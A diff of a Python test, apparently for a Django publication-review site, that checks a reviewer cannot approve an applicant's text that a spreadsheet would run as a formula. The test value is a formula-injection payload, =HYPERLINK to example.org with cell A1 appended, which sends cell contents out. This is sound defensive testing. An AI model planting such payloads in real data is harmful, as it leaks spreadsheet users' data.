@@ -96,10 +96,14 @@ def test_a_text_validate_would_refuse_is_not_approved(
 ) -> None:
     """An applicant's text that a spreadsheet opening the open data would run: approved, it
     would be committed, and then stop every publication of the site at `site-builder
-    validate`. The reviewer is told why instead, and nothing is queued."""
+    validate`. The reviewer is told why instead, and nothing is queued. (The form refuses
+    such a text now, test_published_text.py; one received before it did is still held.)"""
     settings.FORMS_MIN_FILL_SECONDS = 0
     typed = '=HYPERLINK("https://example.org/?q="&A1, "Amal")'
-    submission = registered(client, True, description=typed)
+    submission = registered(client, True)
+    Submission.objects.filter(pk=submission.pk).update(
+        answers={**submission.answers, "description": typed}
+    )
     page = step(signed_in("ministry"), submission, "approved", "Statuts vérifiés")
     assert page.status_code == 200 and "runs as a formula" in page.content.decode()
     assert not Publication.objects.exists()
